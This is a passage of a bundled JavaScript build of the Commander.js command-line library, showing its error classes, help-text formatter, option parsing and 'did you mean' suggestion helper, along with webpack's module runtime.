  if (process.env.FORCE_COLOR || process.env.CLICOLOR_FORCE !== undefined)
    return true;
  return undefined;
}

exports.Command = Command;
exports.useColor = useColor; // exporting for tests


/***/ }),

/***/ 135:
/***/ ((__unused_webpack_module, exports) => {

/**
 * CommanderError class
 */
class CommanderError extends Error {
  /**
   * Constructs the CommanderError class
   * @param {number} exitCode suggested exit code which could be used with process.exit
   * @param {string} code an id string representing the error
   * @param {string} message human-readable description of the error
   */
  constructor(exitCode, code, message) {
    super(message);
    // properly capture stack trace in Node.js
    Error.captureStackTrace(this, this.constructor);
    this.name = this.constructor.name;
    this.code = code;
    this.exitCode = exitCode;
    this.nestedError = undefined;
  }
}

/**
 * InvalidArgumentError class
 */
class InvalidArgumentError extends CommanderError {
  /**
   * Constructs the InvalidArgumentError class
   * @param {string} [message] explanation of why argument is invalid
   */
  constructor(message) {
    super(1, 'commander.invalidArgument', message);
    // properly capture stack trace in Node.js
    Error.captureStackTrace(this, this.constructor);
    this.name = this.constructor.name;
  }
}

exports.CommanderError = CommanderError;
exports.InvalidArgumentError = InvalidArgumentError;


/***/ }),

/***/ 754:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {

const { humanReadableArgName } = __nccwpck_require__(154);

/**
 * TypeScript import types for JSDoc, used by Visual Studio Code IntelliSense and `npm run typescript-checkJS`
 * https://www.typescriptlang.org/docs/handbook/jsdoc-supported-types.html#import-types
 * @typedef { import("./argument.js").Argument } Argument
 * @typedef { import("./command.js").Command } Command
 * @typedef { import("./option.js").Option } Option
 */

// Although this is a class, methods are static in style to allow override using subclass or just functions.
class Help {
  constructor() {
    this.helpWidth = undefined;
    this.minWidthToWrap = 40;
    this.sortSubcommands = false;
    this.sortOptions = false;
    this.showGlobalOptions = false;
  }

  /**
   * prepareContext is called by Commander after applying overrides from `Command.configureHelp()`
   * and just before calling `formatHelp()`.
   *
   * Commander just uses the helpWidth and the rest is provided for optional use by more complex subclasses.
   *
   * @param {{ error?: boolean, helpWidth?: number, outputHasColors?: boolean }} contextOptions
   */
  prepareContext(contextOptions) {
    this.helpWidth = this.helpWidth ?? contextOptions.helpWidth ?? 80;
  }

  /**
   * Get an array of the visible subcommands. Includes a placeholder for the implicit help command, if there is one.
   *
   * @param {Command} cmd
   * @returns {Command[]}
   */

  visibleCommands(cmd) {
    const visibleCommands = cmd.commands.filter((cmd) => !cmd._hidden);
    const helpCommand = cmd._getHelpCommand();
    if (helpCommand && !helpCommand._hidden) {
      visibleCommands.push(helpCommand);
    }
    if (this.sortSubcommands) {
      visibleCommands.sort((a, b) => {
        // @ts-ignore: because overloaded return type
        return a.name().localeCompare(b.name());
      });
    }
    return visibleCommands;
  }

  /**
   * Compare options for sort.
   *
   * @param {Option} a
   * @param {Option} b
   * @returns {number}
   */
  compareOptions(a, b) {
    const getSortKey = (option) => {
      // WYSIWYG for order displayed in help. Short used for comparison if present. No special handling for negated.
      return option.short
        ? option.short.replace(/^-/, '')
        : option.long.replace(/^--/, '');
    };
    return getSortKey(a).localeCompare(getSortKey(b));
  }

  /**
   * Get an array of the visible options. Includes a placeholder for the implicit help option, if there is one.
   *
   * @param {Command} cmd
   * @returns {Option[]}
   */

  visibleOptions(cmd) {
    const visibleOptions = cmd.options.filter((option) => !option.hidden);
    // Built-in help option.
    const helpOption = cmd._getHelpOption();
    if (helpOption && !helpOption.hidden) {
      // Automatically hide conflicting flags. Bit dubious but a historical behaviour that is convenient for single-command programs.
      const removeShort = helpOption.short && cmd._findOption(helpOption.short);
      const removeLong = helpOption.long && cmd._findOption(helpOption.long);
      if (!removeShort && !removeLong) {
        visibleOptions.push(helpOption); // no changes needed
      } else if (helpOption.long && !removeLong) {
        visibleOptions.push(
          cmd.createOption(helpOption.long, helpOption.description),
        );
      } else if (helpOption.short && !removeShort) {
        visibleOptions.push(
          cmd.createOption(helpOption.short, helpOption.description),
        );
      }
    }
    if (this.sortOptions) {
      visibleOptions.sort(this.compareOptions);
    }
    return visibleOptions;
  }

  /**
   * Get an array of the visible global options. (Not including help.)
   *
   * @param {Command} cmd
   * @returns {Option[]}
   */

  visibleGlobalOptions(cmd) {
    if (!this.showGlobalOptions) return [];

    const globalOptions = [];
    for (
      let ancestorCmd = cmd.parent;
      ancestorCmd;
      ancestorCmd = ancestorCmd.parent
    ) {
      const visibleOptions = ancestorCmd.options.filter(
        (option) => !option.hidden,
      );
      globalOptions.push(...visibleOptions);
    }
    if (this.sortOptions) {
      globalOptions.sort(this.compareOptions);
    }
    return globalOptions;
  }

  /**
   * Get an array of the arguments if any have a description.
   *
   * @param {Command} cmd
   * @returns {Argument[]}
   */

  visibleArguments(cmd) {
    // Side effect! Apply the legacy descriptions before the arguments are displayed.
    if (cmd._argsDescription) {
      cmd.registeredArguments.forEach((argument) => {
        argument.description =
          argument.description || cmd._argsDescription[argument.name()] || '';
      });
    }

    // If there are any arguments with a description then return all the arguments.
    if (cmd.registeredArguments.find((argument) => argument.description)) {
      return cmd.registeredArguments;
    }
    return [];
  }

  /**
   * Get the command term to show in the list of subcommands.
   *
   * @param {Command} cmd
   * @returns {string}
   */

  subcommandTerm(cmd) {
    // Legacy. Ignores custom usage string, and nested commands.
    const args = cmd.registeredArguments
      .map((arg) => humanReadableArgName(arg))
      .join(' ');
    return (
      cmd._name +
      (cmd._aliases[0] ? '|' + cmd._aliases[0] : '') +
      (cmd.options.length ? ' [options]' : '') + // simplistic check for non-help option
      (args ? ' ' + args : '')
    );
  }

  /**
   * Get the option term to show in the list of options.
   *
   * @param {Option} option
   * @returns {string}
   */

  optionTerm(option) {
    return option.flags;
  }

  /**
   * Get the argument term to show in the list of arguments.
   *
   * @param {Argument} argument
   * @returns {string}
   */

  argumentTerm(argument) {
    return argument.name();
  }

  /**
   * Get the longest command term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */

  longestSubcommandTermLength(cmd, helper) {
    return helper.visibleCommands(cmd).reduce((max, command) => {
      return Math.max(
        max,
        this.displayWidth(
          helper.styleSubcommandTerm(helper.subcommandTerm(command)),
        ),
      );
    }, 0);
  }

  /**
   * Get the longest option term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */

  longestOptionTermLength(cmd, helper) {
    return helper.visibleOptions(cmd).reduce((max, option) => {
      return Math.max(
        max,
        this.displayWidth(helper.styleOptionTerm(helper.optionTerm(option))),
      );
    }, 0);
  }

  /**
   * Get the longest global option term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */

  longestGlobalOptionTermLength(cmd, helper) {
    return helper.visibleGlobalOptions(cmd).reduce((max, option) => {
      return Math.max(
        max,
        this.displayWidth(helper.styleOptionTerm(helper.optionTerm(option))),
      );
    }, 0);
  }

  /**
   * Get the longest argument term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */

  longestArgumentTermLength(cmd, helper) {
    return helper.visibleArguments(cmd).reduce((max, argument) => {
      return Math.max(
        max,
        this.displayWidth(
          helper.styleArgumentTerm(helper.argumentTerm(argument)),
        ),
      );
    }, 0);
  }

  /**
   * Get the command usage to be displayed at the top of the built-in help.
   *
   * @param {Command} cmd
   * @returns {string}
   */

  commandUsage(cmd) {
    // Usage
    let cmdName = cmd._name;
    if (cmd._aliases[0]) {
      cmdName = cmdName + '|' + cmd._aliases[0];
    }
    let ancestorCmdNames = '';
    for (
      let ancestorCmd = cmd.parent;
      ancestorCmd;
      ancestorCmd = ancestorCmd.parent
    ) {
      ancestorCmdNames = ancestorCmd.name() + ' ' + ancestorCmdNames;
    }
    return ancestorCmdNames + cmdName + ' ' + cmd.usage();
  }

  /**
   * Get the description for the command.
   *
   * @param {Command} cmd
   * @returns {string}
   */

  commandDescription(cmd) {
    // @ts-ignore: because overloaded return type
    return cmd.description();
  }

  /**
   * Get the subcommand summary to show in the list of subcommands.
   * (Fallback to description for backwards compatibility.)
   *
   * @param {Command} cmd
   * @returns {string}
   */

  subcommandDescription(cmd) {
    // @ts-ignore: because overloaded return type
    return cmd.summary() || cmd.description();
  }

  /**
   * Get the option description to show in the list of options.
   *
   * @param {Option} option
   * @return {string}
   */

  optionDescription(option) {
    const extraInfo = [];

    if (option.argChoices) {
      extraInfo.push(
        // use stringify to match the display of the default value
        `choices: ${option.argChoices.map((choice) => JSON.stringify(choice)).join(', ')}`,
      );
    }
    if (option.defaultValue !== undefined) {
      // default for boolean and negated more for programmer than end user,
      // but show true/false for boolean option as may be for hand-rolled env or config processing.
      const showDefault =
        option.required ||
        option.optional ||
        (option.isBoolean() && typeof option.defaultValue === 'boolean');
      if (showDefault) {
        extraInfo.push(
          `default: ${option.defaultValueDescription || JSON.stringify(option.defaultValue)}`,
        );
      }
    }
    // preset for boolean and negated are more for programmer than end user
    if (option.presetArg !== undefined && option.optional) {
      extraInfo.push(`preset: ${JSON.stringify(option.presetArg)}`);
    }
    if (option.envVar !== undefined) {
      extraInfo.push(`env: ${option.envVar}`);
    }
    if (extraInfo.length > 0) {
      const extraDescription = `(${extraInfo.join(', ')})`;
      if (option.description) {
        return `${option.description} ${extraDescription}`;
      }
      return extraDescription;
    }

    return option.description;
  }

  /**
   * Get the argument description to show in the list of arguments.
   *
   * @param {Argument} argument
   * @return {string}
   */

  argumentDescription(argument) {
    const extraInfo = [];
    if (argument.argChoices) {
      extraInfo.push(
        // use stringify to match the display of the default value
        `choices: ${argument.argChoices.map((choice) => JSON.stringify(choice)).join(', ')}`,
      );
    }
    if (argument.defaultValue !== undefined) {
      extraInfo.push(
        `default: ${argument.defaultValueDescription || JSON.stringify(argument.defaultValue)}`,
      );
    }
    if (extraInfo.length > 0) {
      const extraDescription = `(${extraInfo.join(', ')})`;
      if (argument.description) {
        return `${argument.description} ${extraDescription}`;
      }
      return extraDescription;
    }
    return argument.description;
  }

  /**
   * Format a list of items, given a heading and an array of formatted items.
   *
   * @param {string} heading
   * @param {string[]} items
   * @param {Help} helper
   * @returns string[]
   */
  formatItemList(heading, items, helper) {
    if (items.length === 0) return [];

    return [helper.styleTitle(heading), ...items, ''];
  }

  /**
   * Group items by their help group heading.
   *
   * @param {Command[] | Option[]} unsortedItems
   * @param {Command[] | Option[]} visibleItems
   * @param {Function} getGroup
   * @returns {Map<string, Command[] | Option[]>}
   */
  groupItems(unsortedItems, visibleItems, getGroup) {
    const result = new Map();
    // Add groups in order of appearance in unsortedItems.
    unsortedItems.forEach((item) => {
      const group = getGroup(item);
      if (!result.has(group)) result.set(group, []);
    });
    // Add items in order of appearance in visibleItems.
    visibleItems.forEach((item) => {
      const group = getGroup(item);
      if (!result.has(group)) {
        result.set(group, []);
      }
      result.get(group).push(item);
    });
    return result;
  }

  /**
   * Generate the built-in help text.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {string}
   */

  formatHelp(cmd, helper) {
    const termWidth = helper.padWidth(cmd, helper);
    const helpWidth = helper.helpWidth ?? 80; // in case prepareContext() was not called

    function callFormatItem(term, description) {
      return helper.formatItem(term, termWidth, description, helper);
    }

    // Usage
    let output = [
      `${helper.styleTitle('Usage:')} ${helper.styleUsage(helper.commandUsage(cmd))}`,
      '',
    ];

    // Description
    const commandDescription = helper.commandDescription(cmd);
    if (commandDescription.length > 0) {
      output = output.concat([
        helper.boxWrap(
          helper.styleCommandDescription(commandDescription),
          helpWidth,
        ),
        '',
      ]);
    }

    // Arguments
    const argumentList = helper.visibleArguments(cmd).map((argument) => {
      return callFormatItem(
        helper.styleArgumentTerm(helper.argumentTerm(argument)),
        helper.styleArgumentDescription(helper.argumentDescription(argument)),
      );
    });
    output = output.concat(
      this.formatItemList('Arguments:', argumentList, helper),
    );

    // Options
    const optionGroups = this.groupItems(
      cmd.options,
      helper.visibleOptions(cmd),
      (option) => option.helpGroupHeading ?? 'Options:',
    );
    optionGroups.forEach((options, group) => {
      const optionList = options.map((option) => {
        return callFormatItem(
          helper.styleOptionTerm(helper.optionTerm(option)),
          helper.styleOptionDescription(helper.optionDescription(option)),
        );
      });
      output = output.concat(this.formatItemList(group, optionList, helper));
    });

    if (helper.showGlobalOptions) {
      const globalOptionList = helper
        .visibleGlobalOptions(cmd)
        .map((option) => {
          return callFormatItem(
            helper.styleOptionTerm(helper.optionTerm(option)),
            helper.styleOptionDescription(helper.optionDescription(option)),
          );
        });
      output = output.concat(
        this.formatItemList('Global Options:', globalOptionList, helper),
      );
    }

    // Commands
    const commandGroups = this.groupItems(
      cmd.commands,
      helper.visibleCommands(cmd),
      (sub) => sub.helpGroup() || 'Commands:',
    );
    commandGroups.forEach((commands, group) => {
      const commandList = commands.map((sub) => {
        return callFormatItem(
          helper.styleSubcommandTerm(helper.subcommandTerm(sub)),
          helper.styleSubcommandDescription(helper.subcommandDescription(sub)),
        );
      });
      output = output.concat(this.formatItemList(group, commandList, helper));
    });

    return output.join('\n');
  }

  /**
   * Return display width of string, ignoring ANSI escape sequences. Used in padding and wrapping calculations.
   *
   * @param {string} str
   * @returns {number}
   */
  displayWidth(str) {
    return stripColor(str).length;
  }

  /**
   * Style the title for displaying in the help. Called with 'Usage:', 'Options:', etc.
   *
   * @param {string} str
   * @returns {string}
   */
  styleTitle(str) {
    return str;
  }

  styleUsage(str) {
    // Usage has lots of parts the user might like to color separately! Assume default usage string which is formed like:
    //    command subcommand [options] [command] <foo> [bar]
    return str
      .split(' ')
      .map((word) => {
        if (word === '[options]') return this.styleOptionText(word);
        if (word === '[command]') return this.styleSubcommandText(word);
        if (word[0] === '[' || word[0] === '<')
          return this.styleArgumentText(word);
        return this.styleCommandText(word); // Restrict to initial words?
      })
      .join(' ');
  }
  styleCommandDescription(str) {
    return this.styleDescriptionText(str);
  }
  styleOptionDescription(str) {
    return this.styleDescriptionText(str);
  }
  styleSubcommandDescription(str) {
    return this.styleDescriptionText(str);
  }
  styleArgumentDescription(str) {
    return this.styleDescriptionText(str);
  }
  styleDescriptionText(str) {
    return str;
  }
  styleOptionTerm(str) {
    return this.styleOptionText(str);
  }
  styleSubcommandTerm(str) {
    // This is very like usage with lots of parts! Assume default string which is formed like:
    //    subcommand [options] <foo> [bar]
    return str
      .split(' ')
      .map((word) => {
        if (word === '[options]') return this.styleOptionText(word);
        if (word[0] === '[' || word[0] === '<')
          return this.styleArgumentText(word);
        return this.styleSubcommandText(word); // Restrict to initial words?
      })
      .join(' ');
  }
  styleArgumentTerm(str) {
    return this.styleArgumentText(str);
  }
  styleOptionText(str) {
    return str;
  }
  styleArgumentText(str) {
    return str;
  }
  styleSubcommandText(str) {
    return str;
  }
  styleCommandText(str) {
    return str;
  }

  /**
   * Calculate the pad width from the maximum term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */

  padWidth(cmd, helper) {
    return Math.max(
      helper.longestOptionTermLength(cmd, helper),
      helper.longestGlobalOptionTermLength(cmd, helper),
      helper.longestSubcommandTermLength(cmd, helper),
      helper.longestArgumentTermLength(cmd, helper),
    );
  }

  /**
   * Detect manually wrapped and indented strings by checking for line break followed by whitespace.
   *
   * @param {string} str
   * @returns {boolean}
   */
  preformatted(str) {
    return /\n[^\S\r\n]/.test(str);
  }

  /**
   * Format the "item", which consists of a term and description. Pad the term and wrap the description, indenting the following lines.
   *
   * So "TTT", 5, "DDD DDDD DD DDD" might be formatted for this.helpWidth=17 like so:
   *   TTT  DDD DDDD
   *        DD DDD
   *
   * @param {string} term
   * @param {number} termWidth
   * @param {string} description
   * @param {Help} helper
   * @returns {string}
   */
  formatItem(term, termWidth, description, helper) {
    const itemIndent = 2;
    const itemIndentStr = ' '.repeat(itemIndent);
    if (!description) return itemIndentStr + term;

    // Pad the term out to a consistent width, so descriptions are aligned.
    const paddedTerm = term.padEnd(
      termWidth + term.length - helper.displayWidth(term),
    );

    // Format the description.
    const spacerWidth = 2; // between term and description
    const helpWidth = this.helpWidth ?? 80; // in case prepareContext() was not called
    const remainingWidth = helpWidth - termWidth - spacerWidth - itemIndent;
    let formattedDescription;
    if (
      remainingWidth < this.minWidthToWrap ||
      helper.preformatted(description)
    ) {
      formattedDescription = description;
    } else {
      const wrappedDescription = helper.boxWrap(description, remainingWidth);
      formattedDescription = wrappedDescription.replace(
        /\n/g,
        '\n' + ' '.repeat(termWidth + spacerWidth),
      );
    }

    // Construct and overall indent.
    return (
      itemIndentStr +
      paddedTerm +
      ' '.repeat(spacerWidth) +
      formattedDescription.replace(/\n/g, `\n${itemIndentStr}`)
    );
  }

  /**
   * Wrap a string at whitespace, preserving existing line breaks.
   * Wrapping is skipped if the width is less than `minWidthToWrap`.
   *
   * @param {string} str
   * @param {number} width
   * @returns {string}
   */
  boxWrap(str, width) {
    if (width < this.minWidthToWrap) return str;

    const rawLines = str.split(/\r\n|\n/);
    // split up text by whitespace
    const chunkPattern = /[\s]*[^\s]+/g;
    const wrappedLines = [];
    rawLines.forEach((line) => {
      const chunks = line.match(chunkPattern);
      if (chunks === null) {
        wrappedLines.push('');
        return;
      }

      let sumChunks = [chunks.shift()];
      let sumWidth = this.displayWidth(sumChunks[0]);
      chunks.forEach((chunk) => {
        const visibleWidth = this.displayWidth(chunk);
        // Accumulate chunks while they fit into width.
        if (sumWidth + visibleWidth <= width) {
          sumChunks.push(chunk);
          sumWidth += visibleWidth;
          return;
        }
        wrappedLines.push(sumChunks.join(''));

        const nextChunk = chunk.trimStart(); // trim space at line break
        sumChunks = [nextChunk];
        sumWidth = this.displayWidth(nextChunk);
      });
      wrappedLines.push(sumChunks.join(''));
    });

    return wrappedLines.join('\n');
  }
}

/**
 * Strip style ANSI escape sequences from the string. In particular, SGR (Select Graphic Rendition) codes.
 *
 * @param {string} str
 * @returns {string}
 * @package
 */

function stripColor(str) {
  // eslint-disable-next-line no-control-regex
  const sgrPattern = /\x1b\[\d*(;\d*)*m/g;
  return str.replace(sgrPattern, '');
}

exports.Help = Help;
exports.stripColor = stripColor;


/***/ }),

/***/ 240:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {

const { InvalidArgumentError } = __nccwpck_require__(135);

class Option {
  /**
   * Initialize a new `Option` with the given `flags` and `description`.
   *
   * @param {string} flags
   * @param {string} [description]
   */

  constructor(flags, description) {
    this.flags = flags;
    this.description = description || '';

    this.required = flags.includes('<'); // A value must be supplied when the option is specified.
    this.optional = flags.includes('['); // A value is optional when the option is specified.
    // variadic test ignores <value,...> et al which might be used to describe custom splitting of single argument
    this.variadic = /\w\.\.\.[>\]]$/.test(flags); // The option can take multiple values.
    this.mandatory = false; // The option must have a value after parsing, which usually means it must be specified on command line.
    const optionFlags = splitOptionFlags(flags);
    this.short = optionFlags.shortFlag; // May be a short flag, undefined, or even a long flag (if option has two long flags).
    this.long = optionFlags.longFlag;
    this.negate = false;
    if (this.long) {
      this.negate = this.long.startsWith('--no-');
    }
    this.defaultValue = undefined;
    this.defaultValueDescription = undefined;
    this.presetArg = undefined;
    this.envVar = undefined;
    this.parseArg = undefined;
    this.hidden = false;
    this.argChoices = undefined;
    this.conflictsWith = [];
    this.implied = undefined;
    this.helpGroupHeading = undefined; // soft initialised when option added to command
  }

  /**
   * Set the default value, and optionally supply the description to be displayed in the help.
   *
   * @param {*} value
   * @param {string} [description]
   * @return {Option}
   */

  default(value, description) {
    this.defaultValue = value;
    this.defaultValueDescription = description;
    return this;
  }

  /**
   * Preset to use when option used without option-argument, especially optional but also boolean and negated.
   * The custom processing (parseArg) is called.
   *
   * @example
   * new Option('--color').default('GREYSCALE').preset('RGB');
   * new Option('--donate [amount]').preset('20').argParser(parseFloat);
   *
   * @param {*} arg
   * @return {Option}
   */

  preset(arg) {
    this.presetArg = arg;
    return this;
  }

  /**
   * Add option name(s) that conflict with this option.
   * An error will be displayed if conflicting options are found during parsing.
   *
   * @example
   * new Option('--rgb').conflicts('cmyk');
   * new Option('--js').conflicts(['ts', 'jsx']);
   *
   * @param {(string | string[])} names
   * @return {Option}
   */

  conflicts(names) {
    this.conflictsWith = this.conflictsWith.concat(names);
    return this;
  }

  /**
   * Specify implied option values for when this option is set and the implied options are not.
   *
   * The custom processing (parseArg) is not called on the implied values.
   *
   * @example
   * program
   *   .addOption(new Option('--log', 'write logging information to file'))
   *   .addOption(new Option('--trace', 'log extra details').implies({ log: 'trace.txt' }));
   *
   * @param {object} impliedOptionValues
   * @return {Option}
   */
  implies(impliedOptionValues) {
    let newImplied = impliedOptionValues;
    if (typeof impliedOptionValues === 'string') {
      // string is not documented, but easy mistake and we can do what user probably intended.
      newImplied = { [impliedOptionValues]: true };
    }
    this.implied = Object.assign(this.implied || {}, newImplied);
    return this;
  }

  /**
   * Set environment variable to check for option value.
   *
   * An environment variable is only used if when processed the current option value is
   * undefined, or the source of the current value is 'default' or 'config' or 'env'.
   *
   * @param {string} name
   * @return {Option}
   */

  env(name) {
    this.envVar = name;
    return this;
  }

  /**
   * Set the custom handler for processing CLI option arguments into option values.
   *
   * @param {Function} [fn]
   * @return {Option}
   */

  argParser(fn) {
    this.parseArg = fn;
    return this;
  }

  /**
   * Whether the option is mandatory and must have a value after parsing.
   *
   * @param {boolean} [mandatory=true]
   * @return {Option}
   */

  makeOptionMandatory(mandatory = true) {
    this.mandatory = !!mandatory;
    return this;
  }

  /**
   * Hide option in help.
   *
   * @param {boolean} [hide=true]
   * @return {Option}
   */

  hideHelp(hide = true) {
    this.hidden = !!hide;
    return this;
  }

  /**
   * @package
   */

  _collectValue(value, previous) {
    if (previous === this.defaultValue || !Array.isArray(previous)) {
      return [value];
    }

    previous.push(value);
    return previous;
  }

  /**
   * Only allow option value to be one of choices.
   *
   * @param {string[]} values
   * @return {Option}
   */

  choices(values) {
    this.argChoices = values.slice();
    this.parseArg = (arg, previous) => {
      if (!this.argChoices.includes(arg)) {
        throw new InvalidArgumentError(
          `Allowed choices are ${this.argChoices.join(', ')}.`,
        );
      }
      if (this.variadic) {
        return this._collectValue(arg, previous);
      }
      return arg;
    };
    return this;
  }

  /**
   * Return option name.
   *
   * @return {string}
   */

  name() {
    if (this.long) {
      return this.long.replace(/^--/, '');
    }
    return this.short.replace(/^-/, '');
  }

  /**
   * Return option name, in a camelcase format that can be used
   * as an object attribute key.
   *
   * @return {string}
   */

  attributeName() {
    if (this.negate) {
      return camelcase(this.name().replace(/^no-/, ''));
    }
    return camelcase(this.name());
  }

  /**
   * Set the help group heading.
   *
   * @param {string} heading
   * @return {Option}
   */
  helpGroup(heading) {
    this.helpGroupHeading = heading;
    return this;
  }

  /**
   * Check if `arg` matches the short or long flag.
   *
   * @param {string} arg
   * @return {boolean}
   * @package
   */

  is(arg) {
    return this.short === arg || this.long === arg;
  }

  /**
   * Return whether a boolean option.
   *
   * Options are one of boolean, negated, required argument, or optional argument.
   *
   * @return {boolean}
   * @package
   */

  isBoolean() {
    return !this.required && !this.optional && !this.negate;
  }
}

/**
 * This class is to make it easier to work with dual options, without changing the existing
 * implementation. We support separate dual options for separate positive and negative options,
 * like `--build` and `--no-build`, which share a single option value. This works nicely for some
 * use cases, but is tricky for others where we want separate behaviours despite
 * the single shared option value.
 */
class DualOptions {
  /**
   * @param {Option[]} options
   */
  constructor(options) {
    this.positiveOptions = new Map();
    this.negativeOptions = new Map();
    this.dualOptions = new Set();
    options.forEach((option) => {
      if (option.negate) {
        this.negativeOptions.set(option.attributeName(), option);
      } else {
        this.positiveOptions.set(option.attributeName(), option);
      }
    });
    this.negativeOptions.forEach((value, key) => {
      if (this.positiveOptions.has(key)) {
        this.dualOptions.add(key);
      }
    });
  }

  /**
   * Did the value come from the option, and not from possible matching dual option?
   *
   * @param {*} value
   * @param {Option} option
   * @returns {boolean}
   */
  valueFromOption(value, option) {
    const optionKey = option.attributeName();
    if (!this.dualOptions.has(optionKey)) return true;

    // Use the value to deduce if (probably) came from the option.
    const preset = this.negativeOptions.get(optionKey).presetArg;
    const negativeValue = preset !== undefined ? preset : false;
    return option.negate === (negativeValue === value);
  }
}

/**
 * Convert string from kebab-case to camelCase.
 *
 * @param {string} str
 * @return {string}
 * @private
 */

function camelcase(str) {
  return str.split('-').reduce((str, word) => {
    return str + word[0].toUpperCase() + word.slice(1);
  });
}

/**
 * Split the short and long flag out of something like '-m,--mixed <value>'
 *
 * @private
 */

function splitOptionFlags(flags) {
  let shortFlag;
  let longFlag;
  // short flag, single dash and single character
  const shortFlagExp = /^-[^-]$/;
  // long flag, double dash and at least one character
  const longFlagExp = /^--[^-]/;

  const flagParts = flags.split(/[ |,]+/).concat('guard');
  // Normal is short and/or long.
  if (shortFlagExp.test(flagParts[0])) shortFlag = flagParts.shift();
  if (longFlagExp.test(flagParts[0])) longFlag = flagParts.shift();
  // Long then short. Rarely used but fine.
  if (!shortFlag && shortFlagExp.test(flagParts[0]))
    shortFlag = flagParts.shift();
  // Allow two long flags, like '--ws, --workspace'
  // This is the supported way to have a shortish option flag.
  if (!shortFlag && longFlagExp.test(flagParts[0])) {
    shortFlag = longFlag;
    longFlag = flagParts.shift();
  }

  // Check for unprocessed flag. Fail noisily rather than silently ignore.
  if (flagParts[0].startsWith('-')) {
    const unsupportedFlag = flagParts[0];
    const baseError = `option creation failed due to '${unsupportedFlag}' in option flags '${flags}'`;
    if (/^-[^-][^-]/.test(unsupportedFlag))
      throw new Error(
        `${baseError}
- a short flag is a single dash and a single character
  - either use a single dash and a single character (for a short flag)
  - or use a double dash for a long option (and can have two, like '--ws, --workspace')`,
      );
    if (shortFlagExp.test(unsupportedFlag))
      throw new Error(`${baseError}
- too many short flags`);
    if (longFlagExp.test(unsupportedFlag))
      throw new Error(`${baseError}
- too many long flags`);

    throw new Error(`${baseError}
- unrecognised flag format`);
  }
  if (shortFlag === undefined && longFlag === undefined)
    throw new Error(
      `option creation failed due to no flags found in '${flags}'.`,
    );

  return { shortFlag, longFlag };
}

exports.Option = Option;
exports.DualOptions = DualOptions;


/***/ }),

/***/ 30:
/***/ ((__unused_webpack_module, exports) => {

const maxDistance = 3;

function editDistance(a, b) {
  // https://en.wikipedia.org/wiki/Damerau–Levenshtein_distance
  // Calculating optimal string alignment distance, no substring is edited more than once.
  // (Simple implementation.)

  // Quick early exit, return worst case.
  if (Math.abs(a.length - b.length) > maxDistance)
    return Math.max(a.length, b.length);

  // distance between prefix substrings of a and b
  const d = [];

  // pure deletions turn a into empty string
  for (let i = 0; i <= a.length; i++) {
    d[i] = [i];
  }
  // pure insertions turn empty string into b
  for (let j = 0; j <= b.length; j++) {
    d[0][j] = j;
  }

  // fill matrix
  for (let j = 1; j <= b.length; j++) {
    for (let i = 1; i <= a.length; i++) {
      let cost = 1;
      if (a[i - 1] === b[j - 1]) {
        cost = 0;
      } else {
        cost = 1;
      }
      d[i][j] = Math.min(
        d[i - 1][j] + 1, // deletion
        d[i][j - 1] + 1, // insertion
        d[i - 1][j - 1] + cost, // substitution
      );
      // transposition
      if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) {
        d[i][j] = Math.min(d[i][j], d[i - 2][j - 2] + 1);
      }
    }
  }

  return d[a.length][b.length];
}

/**
 * Find close matches, restricted to same number of edits.
 *
 * @param {string} word
 * @param {string[]} candidates
 * @returns {string}
 */

function suggestSimilar(word, candidates) {
  if (!candidates || candidates.length === 0) return '';
  // remove possible duplicates
  candidates = Array.from(new Set(candidates));

  const searchingOptions = word.startsWith('--');
  if (searchingOptions) {
    word = word.slice(2);
    candidates = candidates.map((candidate) => candidate.slice(2));
  }

  let similar = [];
  let bestDistance = maxDistance;
  const minSimilarity = 0.4;
  candidates.forEach((candidate) => {
    if (candidate.length <= 1) return; // no one character guesses

    const distance = editDistance(word, candidate);
    const length = Math.max(word.length, candidate.length);
    const similarity = (length - distance) / length;
    if (similarity > minSimilarity) {
      if (distance < bestDistance) {
        // better edit distance, throw away previous worse matches
        bestDistance = distance;
        similar = [candidate];
      } else if (distance === bestDistance) {
        similar.push(candidate);
      }
    }
  });

  similar.sort((a, b) => a.localeCompare(b));
  if (searchingOptions) {
    similar = similar.map((candidate) => `--${candidate}`);
  }

  if (similar.length > 1) {
    return `\n(Did you mean one of ${similar.join(', ')}?)`;
  }
  if (similar.length === 1) {
    return `\n(Did you mean ${similar[0]}?)`;
  }
  return '';
}

exports.suggestSimilar = suggestSimilar;


/***/ })

/******/ });
/************************************************************************/
/******/ // The module cache
/******/ var __webpack_module_cache__ = {};
/******/ 
/******/ // The require function
/******/ function __nccwpck_require__(moduleId) {
/******/ 	// Check if module is in cache
/******/ 	var cachedModule = __webpack_module_cache__[moduleId];
/******/ 	if (cachedModule !== undefined) {
/******/ 		return cachedModule.exports;
/******/ 	}
/******/ 	// Create a new module (and put it into the cache)
/******/ 	var module = __webpack_module_cache__[moduleId] = {
/******/ 		// no module.id needed
/******/ 		// no module.loaded needed
/******/ 		exports: {}
/******/ 	};
/******/ 
/******/ 	// Execute the module function
/******/ 	var threw = true;
/******/ 	try {
/******/ 		__webpack_modules__[moduleId](module, module.exports, __nccwpck_require__);
/******/ 		threw = false;
/******/ 	} finally {
/******/ 		if(threw) delete __webpack_module_cache__[moduleId];
/******/ 	}
/******/ 
/******/ 	// Return the exports of the module
/******/ 	return module.exports;
/******/ }
/******/ 
/************************************************************************/
/******/ /* webpack/runtime/asset-relocator-loader */
/******/ if (typeof __nccwpck_require__ !== 'undefined') __nccwpck_require__.ab = decodeURIComponent(new URL('.', import.meta.url).pathname).slice(import.meta.url.match(/^file:\/\/\/\w:/) ? 1 : 0, -1) + "/";
/******/ 
/******/ /* webpack/runtime/async module */
/******/ (() => {
/******/ 	var webpackQueues = typeof Symbol === "function" ? Symbol("webpack queues") : "__webpack_queues__";
/******/ 	var webpackExports = typeof Symbol === "function" ? Symbol("webpack exports") : "__webpack_exports__";
/******/ 	var webpackError = typeof Symbol === "function" ? Symbol("webpack error") : "__webpack_error__";
